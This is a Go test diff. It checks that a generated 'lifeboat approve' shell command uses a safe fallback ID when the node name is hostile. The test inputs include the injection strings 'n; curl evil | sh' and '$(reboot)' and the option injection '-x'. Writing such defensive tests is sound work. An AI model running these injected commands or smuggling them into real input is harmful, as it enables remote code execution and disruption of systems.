@@ -85,3 +85,19 @@ func TestSummarize(t *testing.T) {
 		t.Error(diff)
 	}
 }
+
+// A person pastes the command into a shell.
+func TestNeedNamesNoNodeThatIsNoName(t *testing.T) {
+	for node, want := range map[string]string{
+		"ip-10-0-1-5.ec2.internal": "lifeboat approve ip-10-0-1-5.ec2.internal",
+		"n; curl evil | sh":        "lifeboat approve i-1",
+		"$(reboot)":                "lifeboat approve i-1",
+		"-x":                       "lifeboat approve i-1",
+	} {
+		in := interruption(v1alpha1.PhaseAwaitingApproval, v1alpha1.ActionDrain, nil)
+		in.Name, in.Spec.NodeName = "i-1", node
+		if got := record.Needs(&in, "lifeboat", clock); len(got) != 1 || got[0].Command != want {
+			t.Errorf("node %q: %+v, want %q", node, got, want)
+		}
+	}
+}
